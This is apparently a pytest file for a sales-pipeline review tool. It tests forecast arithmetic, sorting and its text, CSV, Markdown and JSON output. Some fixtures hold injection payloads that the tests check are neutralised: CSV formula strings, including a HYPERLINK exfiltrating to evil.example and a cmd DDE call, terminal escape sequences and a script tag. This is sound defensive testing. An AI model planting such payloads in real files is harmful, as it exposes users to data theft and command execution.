"""The pipeline review's formats and arithmetic on hand-made deals (ssm_rules.review).

The review of real plans, through the engine, is tests/test_pipeline_cli.py; here each format
is held to what its readers rely on: the totals of the stages guide, a terminal table that
never wraps (CJK names included), a CSV no spreadsheet runs, Markdown that plan text cannot
break, and the JSON contract's keys.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from ssm_rules import display
from ssm_rules.review import render
from ssm_rules.review.deals import (Deal, NextStep, Review, Selection, Worst, by_owner, money, ordered, stage_weights,
                                    totals_of)
from ssm_rules.review.text import compact, layout

AS_OF = date(2026, 11, 27)
WEIGHTS = {"identified": 10, "validated": 20, "qualified": 40, "proposed": 60, "won": 100}


def deal(opportunity: str, claimed: str = "qualified", supported: str | None = "qualified", value=100_000, *,
         owner: str = "raj.patel", account_name: str = "Northwind Retail", name: str | None = None,
         missing: tuple[str, ...] = (), worst: Worst | None = None, close: str | None = "2027-03-31",
         must_win: bool = False, days: int | None = 12, step: NextStep | None = None) -> Deal:
    return Deal(account="northwind-retail", account_name=account_name, file="plans/northwind.yaml",
                opportunity=opportunity, name=name or opportunity.replace("-", " ").title(), owner=owner,
                must_win=must_win, value=value, close_date=close, claimed_stage=claimed, supported_stage=supported,
                missing_outcomes=missing, days_in_stage=days, next_step=step,
                findings=(worst.rule,) if worst else (), worst=worst)


def make_review(deals: list[Deal], *, selection: Selection = Selection(), sort: str | None = None) -> Review:
    deals = ordered([d for d in deals if selection.keeps(d)], sort)
    return Review(as_of=AS_OF, deals=deals, totals=totals_of(deals, WEIGHTS), selection=selection, sort=sort)


# ---- totals: the stages guide, by hand ------------------------------------------------------------

SAMPLE = [
    deal("a", "qualified", None, 100_000, missing=("interest", "need_confirmed", "go_forward")),  # unsupported
    deal("b", "proposed", "qualified", 50_000, missing=("conditional_approval",)),  # unsupported
    deal("c", "validated", "validated", 30_000),  # supported
    deal("d", "identified", "qualified", 20_000),  # supported beyond its claim
    deal("e", "qualified", "validated", None, missing=("go_forward",)),  # unsupported, no value
    deal("f", "won", "won", 999_999),  # not open: shown with --all, never added up
    deal("g", "lost", None, 70_000),
]


def test_totals_follow_the_stages_guide():
    totals = totals_of(SAMPLE, WEIGHTS)
    assert totals.count == 5  # open only: a-e
    assert totals.value == 200_000  # e has no value
    assert totals.claimed == {"identified": 20_000, "validated": 30_000, "qualified": 100_000, "proposed": 50_000}
    assert totals.supported == {"none": 100_000, "identified": 0, "validated": 30_000, "qualified": 70_000,
                                "proposed": 0, "won": 0, "completed": 0}
    assert totals.unsupported_count == 3  # a, b, e
    assert totals.unsupported_value == 150_000  # a + b (e has no value)
    # claimed: 100k*40% + 50k*60% + 30k*20% + 20k*10% = 40k + 30k + 6k + 2k
    assert totals.forecast_claimed == 78_000
    # supported: a none 0 + b qualified 50k*40% + c validated 30k*20% + d qualified 20k*40% = 20k + 6k + 8k
    assert totals.forecast_supported == 34_000


def test_totals_json_is_the_contract():
    assert totals_of(SAMPLE, WEIGHTS).to_json() == {
        "count": 5, "value": 200_000,
        "claimed": {"identified": 20_000, "validated": 30_000, "qualified": 100_000, "proposed": 50_000},
        "supported": {"none": 100_000, "identified": 0, "validated": 30_000, "qualified": 70_000, "proposed": 0,
                      "won": 0, "completed": 0},
        "unsupported_value": 150_000, "forecast": {"claimed": 78_000, "supported": 34_000}}


def test_a_stage_without_a_weight_weighs_as_the_stage_below_and_no_support_weighs_nothing():
    weights = stage_weights({"identified": 10, "validated": 20, "qualified": 40, "proposed": 60, "won": 100})
    assert weights["none"] == 0 and weights["completed"] == 100
    assert stage_weights({"identified": 10})["proposed"] == 10
    # An open deal whose outcomes reach completed weighs as won on the supported side.
    totals = totals_of([deal("x", "proposed", "completed", 1000)], WEIGHTS)
    assert (totals.forecast_claimed, totals.forecast_supported) == (600, 1000)


def test_money_is_exact_and_reads_naturally():
    assert money([0.1, 0.2]) == 0.3
    assert money([1_000_000.0, 250_000.0]) == 1_250_000 and isinstance(money([1.0]), int)
    assert money([]) == 0
    assert money([0.1] * 10) == 1  # fsum: the order and the number of terms never drift


@pytest.mark.parametrize("fold_at", [1, 2, 3, 256])
def test_an_exact_sum_totals_what_fsum_of_every_value_does_and_keeps_a_few_floats(monkeypatch, fold_at):
    """The audit adds up its portfolio's opportunities as they stream from the spool: the totals
    are fsum's of all the values, to the last bit, while only a few floats are kept."""
    import math
    import random

    from ssm_rules.review.deals import ExactSum

    monkeypatch.setattr(ExactSum, "FOLD_AT", fold_at)
    draw = random.Random(2026)
    for trial in range(400):
        values = [draw.choice([round(draw.uniform(0, 5e6), 2), draw.uniform(-1, 1) * 10.0 ** draw.randint(-300, 300),
                               1e16, -1e16, 0.1, 5e-324, 2**53 - 1, 0, 7])
                  for _ in range(draw.randint(0, 600))]
        total = ExactSum()
        for value in values:
            total.add(value)
        assert math.fsum(total) == math.fsum(values), trial
        assert len(total.exact) + len(total.pending) <= 40 + fold_at
    for values in ([1.0, math.inf, 2.0], [math.nan, 1.0], [1e16, -math.inf]):  # as fsum judges them
        total = ExactSum()
        for value in values:
            total.add(value)
        assert repr(math.fsum(total)) == repr(math.fsum(values))
    total = ExactSum()
    for value in (math.inf, 1.0, -math.inf):
        total.add(value)
    with pytest.raises(ValueError):
        math.fsum(total)


def test_totals_do_not_depend_on_the_order_of_the_deals():
    values = [0.1, 1e15, -1e15, 0.2, 33.33, 66.67]
    deals = [deal(str(i), "qualified", None, v) for i, v in enumerate(values)]
    assert totals_of(deals, WEIGHTS) == totals_of(list(reversed(deals)), WEIGHTS)


# ---- selection and order ----------------------------------------------------------------------------

def test_default_shows_open_deals_unsupported_first_then_by_value():
    review = make_review(SAMPLE)
    assert [d.opportunity for d in review.deals] == ["a", "b", "e", "c", "d"]


@pytest.mark.parametrize("sort, expected", [
    ("value", ["a", "b", "c", "d", "e"]),
    ("stage", ["b", "a", "e", "c", "d"]),
    ("risk", ["a", "b", "e", "c", "d"]),
])
def test_sort_orders(sort, expected):
    assert [d.opportunity for d in make_review(SAMPLE, sort=sort).deals] == expected


def test_sort_by_close_date_puts_undated_deals_last():
    deals = [deal("late", close="2027-06-30"), deal("none", close=None), deal("soon", close="2026-12-15")]
    assert [d.opportunity for d in ordered(deals, "close")] == ["soon", "late", "none"]


def test_risk_puts_the_worst_finding_first():
    deals = [deal("info", worst=Worst("SSM-X-003", "info", "i")), deal("clean"),
             deal("error", worst=Worst("SSM-X-001", "error", "e"), value=1)]
    assert [d.opportunity for d in ordered(deals, "risk")] == ["error", "info", "clean"]


def test_all_shows_won_and_lost_and_stage_selects_any_stage():
    assert {d.opportunity for d in make_review(SAMPLE, selection=Selection(everything=True)).deals} == set("abcdefg")
    assert [d.opportunity for d in make_review(SAMPLE, selection=Selection(stages=("lost",))).deals] == ["g"]
    assert make_review(SAMPLE, selection=Selection(everything=True)).totals.count == 5  # totals stay open-only


def test_owner_and_must_win_select():
    deals = [deal("mine", owner="Raj.Patel"), deal("theirs", owner="ana.lopez"), deal("must", must_win=True,
                                                                                         owner="raj.patel")]
    assert [d.opportunity for d in make_review(deals, selection=Selection(owner="raj.patel")).deals] == ["mine",
                                                                                                           "must"]
    assert [d.opportunity for d in make_review(deals, selection=Selection(must_win=True)).deals] == ["must"]


def test_groups_by_owner_in_name_order():
    deals = [deal("1", owner="zoe"), deal("2", owner="Ana"), deal("3", owner="zoe")]
    assert [(owner, [d.opportunity for d in group]) for owner, group in by_owner(deals)] == [
        ("Ana", ["2"]), ("zoe", ["1", "3"])]


# ---- text ----------------------------------------------------------------------------------------------

def lines_of(text: str) -> list[str]:
    return text.rstrip("\n").split("\n")


def test_compact_money():
    assert [compact(v) for v in (None, 0, 950, 12_500, 999_950, 1_250_000, 3.4e9, -5000, 0.5)] == [
        "–", "0", "950", "12.5k", "1M", "1.25M", "3.4B", "-5k", "0.5"]


WIDE_DEALS = [
    deal("omni", "qualified", None, 1_250_000, account_name="Banca Valdadige Società Cooperativa per Azioni",
         name="Open banking API platform for fintech partners and their developers",
         missing=("interest", "need_confirmed", "go_forward"), worst=Worst("SSM-STG-001", "error", "m"),
         step=NextStep("Pilot scoping workshop with Li Wei's architects and the CIO's office", "2026-12-10", None),
         owner="giulia.ferraro", must_win=True),
    deal("cn", "proposed", "validated", 88_000, account_name="上海浦东发展银行股份有限公司", name="核心银行系统现代化改造项目",
         missing=("go_forward", "conditional_approval"), owner="王小明",
         step=NextStep("与首席信息官会面讨论试点范围", "2026-12-01", None)),
    deal("plain", "identified", "identified", 5_000, owner="giulia.ferraro"),
]


@pytest.mark.parametrize("width", [120, 100, 80, 60])
def test_text_never_wraps_a_line_at_any_width(width):
    text = render(make_review(WIDE_DEALS), "text", width=width)
    for line in lines_of(text):
        assert display.width(line) <= width, line


def test_text_at_120_columns_keeps_every_column_and_aligns_cjk_names():
    lines = lines_of(render(make_review(WIDE_DEALS), "text", width=120))
    header = next(line for line in lines if line.startswith("ACCOUNT"))
    for title in ("ACCOUNT", "OPPORTUNITY", "VALUE", "CLOSE", "CLAIMED → SUPPORTED", "MISSING", "DAYS", "NEXT STEP",
                  "WORST"):
        assert title in header
    rows = [line for line in lines if "2027-03-31" in line]
    assert len(rows) == 3
    # Every column starts at the same display column in every row, whatever script a name is in.
    starts = {display.width(row[:row.index("2027-03-31")]) for row in rows}
    assert starts == {display.width(header[:header.index("CLOSE")])}
    assert any("核心" in row and "…" in row for row in rows)  # truncated by display width, not cut mid-character


def test_text_at_80_columns_drops_the_least_needed_columns():
    lines = lines_of(render(make_review(WIDE_DEALS), "text", width=80))
    header = next(line for line in lines if line.startswith("ACCOUNT"))
    for kept in ("OPPORTUNITY", "VALUE", "CLAIMED → SUPPORTED", "WORST"):
        assert kept in header
    assert "DAYS" not in header


def test_text_groups_by_owner_and_shows_totals():
    text = render(make_review(WIDE_DEALS), "text", width=120)
    assert "giulia.ferraro  2 opportunities" in text and "王小明  1 opportunity" in text
    assert "Total: 3 open opportunities, 1.34M\nClaimed past their evidence: 2, 1.34M (100% of the value)" in text
    assert "* Open banking" in text and "* must-win" in text


def test_text_of_one_owner_says_whose_review_it_is_without_a_group_line():
    review = make_review(WIDE_DEALS, selection=Selection(owner="giulia.ferraro"))
    lines = lines_of(render(review, "text", width=120))
    assert lines[0] == "Pipeline as of 2026-11-27: 2 open opportunities of giulia.ferraro"
    assert not any(line.startswith("giulia.ferraro") for line in lines)


def test_text_colour_only_when_asked():
    review = make_review(WIDE_DEALS)
    assert "\x1b[" not in render(review, "text")
    assert "\x1b[31m" in render(review, "text", color=True)


def test_text_shows_plan_text_but_never_a_terminal_control():
    hostile = deal("x", name="Evil\x1b]0;owned\x07 \u202egnp.exe", account_name="A\x1b[2JB")
    text = render(make_review([hostile]), "text", width=120)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "Evil\\x1b]0;owned\\x07 \\u202egnp.exe" in text


def test_text_says_when_the_next_step_is_due_from_the_as_of_date():
    deals = [deal("late", step=NextStep("Call Ana", "2026-11-24", None, 3)),
             deal("today", step=NextStep("Call Li", "2026-11-27", None, 0)),
             deal("soon", step=NextStep("Call Raj", "2026-12-03", None, -6)), deal("none")]
    text = render(make_review(deals), "text", width=160)
    assert "3d late: Call Ana" in text and "today: Call Li" in text and "in 6d: Call Raj" in text
    coloured = render(make_review(deals), "text", width=160, color=True)
    assert "\x1b[31m3d late: Call Ana" in coloured and "\x1b[31min 6d" not in coloured


def test_a_narrow_missing_column_keeps_the_count_of_the_other_outcomes():
    deals = [deal("x", "proposed", None, missing=("interest", "need_confirmed", "go_forward", "conditional_approval")),
             deal("y", "qualified", "validated", missing=("conditional_approval",) * 1)]
    text = render(make_review(deals), "text", width=100)
    assert "interest +3" in text
    row = next(line for line in text.splitlines() if line.startswith("Northwind") and "→ validated" in line)
    assert "conditional" in row


def test_the_headline_says_what_is_shown():
    assert render(make_review(SAMPLE, selection=Selection(must_win=True, owner="raj.patel")), "text").startswith(
        "Pipeline as of 2026-11-27: 0 open must-win opportunities of raj.patel\n")
    assert render(make_review(SAMPLE, selection=Selection(everything=True)), "text").startswith(
        "Pipeline as of 2026-11-27: 7 opportunities (open, won, completed and lost)")


def test_text_of_nothing():
    assert "Nothing to show." in render(make_review([]), "text")


# ---- csv -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\t=", " \r\n@"])
def test_csv_prefixes_cells_a_spreadsheet_would_run(start):
    hostile = deal("x", name=f'{start}HYPERLINK("http://evil.example/?"&A1,"x")', owner=f"{start}cmd|' /C calc'!A0",
                   worst=Worst("SSM-X-001", "error", f"{start}1+1"),
                   step=NextStep(f"{start}SUM(A1:A9)", "2026-12-01", None))
    rows = list(csv.reader(io.StringIO(render(make_review([hostile]), "csv"))))
    header, row = rows
    record = dict(zip(header, row))
    for key in ("name", "owner", "next_step", "worst_message"):
        # Either the cell starts with the quote that makes it text, or white space that could
        # hide a formula's start has gone with the line breaks (cells are one line).
        assert record[key].startswith("'") or not record[key].startswith(("=", "+", "-", "@", "\t", "\r", " ")), \
            (key, record[key])
    assert record["name"] in ('\'' + f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'.strip(),
                              f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'.strip())  # nothing else changed


def test_csv_is_rfc_4180_and_round_trips():
    tricky = deal("q", name='Say "hi", then\nleave', account_name="Comma, Inc.", value=-1250.5)
    text = render(make_review([tricky, deal("plain", value=None)], selection=Selection(everything=True)), "csv")
    assert text.endswith("\r\n") and "\r\n" in text.rstrip("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:6] == ["account", "account_name", "file", "opportunity", "name", "owner"]
    record = dict(zip(rows[0], rows[1]))
    assert record["account_name"] == "Comma, Inc."
    assert record["name"] == 'Say "hi", then leave'  # one line, quotes doubled by the writer
    assert record["value"] == "-1250.5"  # a number stays a number: never prefixed
    assert dict(zip(rows[0], rows[2]))["value"] == ""


# ---- markdown -----------------------------------------------------------------------------------------

def test_markdown_escapes_plan_text_and_keeps_the_table_whole():
    hostile = deal("x", name="[click](http://evil.example) | <script>alert(1)</script>", owner="a|b")
    text = render(make_review([hostile]), "markdown")
    row = next(line for line in text.splitlines() if "click" in line)
    assert "\\[click\\](http://evil.example) \\| \\<script\\>" in row
    assert row.count(" | ") == 8  # nine cells: a `|` in the name is no column of its own


def test_markdown_has_a_table_per_owner_and_the_totals():
    text = render(make_review(WIDE_DEALS), "markdown")
    assert "### giulia.ferraro" in text and "### 王小明" in text and "### Totals" in text
    assert "| Open banking API platform for fintech partners and their developers (must-win) |" in text
    assert "**qualified → none**" in text
    assert "1,250,000" in text


# ---- json ----------------------------------------------------------------------------------------------

def test_json_is_the_contract():
    document = json.loads(render(make_review(WIDE_DEALS[:1]), "json"))
    assert list(document) == ["version", "as_of", "opportunities", "totals"]
    assert document["version"] == 1 and document["as_of"] == "2026-11-27"
    (opportunity,) = document["opportunities"]
    assert list(opportunity) == ["account", "file", "opportunity", "name", "owner", "must_win", "value", "close_date",
                                 "claimed_stage", "supported_stage", "missing_outcomes", "days_in_stage", "next_step",
                                 "findings", "worst"]
    assert opportunity["supported_stage"] is None  # no outcome supports any milestone
    assert opportunity["next_step"] == {"action": "Pilot scoping workshop with Li Wei's architects and the CIO's office",
                                        "due": "2026-12-10", "owner": None}
    assert opportunity["worst"] == {"rule": "SSM-STG-001", "severity": "error", "message": "m"}
    assert list(document["totals"]) == ["count", "value", "claimed", "supported", "unsupported_value", "forecast"]


# ---- deals from a check's results ------------------------------------------------------------------


def test_each_finding_is_looked_at_once_however_many_opportunities(monkeypatch):
    """A plan with 10,000 opportunities took minutes when every opportunity scanned all the
    plan's findings for its own; each finding is now filed under its subject once."""
    from types import SimpleNamespace

    from ssm_rules.review import deals as deals_module

    def finding(subject: dict, rule: str, severity: str = "warning", guidance: tuple = ()):
        shape = {"rule": rule, "severity": severity, "message": rule, "subject": subject, "guidance": list(guidance)}
        return SimpleNamespace(to_json=lambda: shape)

    count = 300
    opportunities = [{"id": f"o{i}", "stage": "qualified" if i % 2 else "identified", "value": 1000, "name": None,
                      "owner": "raj.patel", "supported_stage": None, "missing_outcomes": ["interest"]}
                     for i in range(count)]
    findings = [finding({"kind": "plan"}, "SSM-OUT-001", "error", ("G86",))]
    findings += [finding({"kind": "opportunity", "id": f"o{i}"}, f"SSM-STG-{n:03}") for i in range(count) for n in (1, 2)]
    result = SimpleNamespace(valid=True, findings=findings, opportunities=opportunities, account="acme",
                             account_name="Acme", file="acme.yaml")
    looked_at = []
    subject = deals_module._subject
    monkeypatch.setattr(deals_module, "_subject", lambda f: looked_at.append(1) or subject(f))
    shown = deals_module.deals_of(result)
    assert len(looked_at) == len(findings)  # before: len(findings) x (count + 1)
    assert [deal.findings for deal in shown[:2]] == [("SSM-STG-001", "SSM-STG-002"),
                                                     ("SSM-STG-001", "SSM-STG-002", "SSM-OUT-001")]
    assert shown[1].worst.rule == "SSM-OUT-001" and shown[0].worst.rule == "SSM-STG-001"


def test_a_review_with_nothing_claimed_past_the_evidence_says_none():
    review = make_review([deal("c", "validated", "validated", 30_000)])
    assert "Claimed past their evidence: none" in lines_of(render(review, "text", width=120))
    assert "- Claimed past their evidence: none" in render(review, "markdown").splitlines()
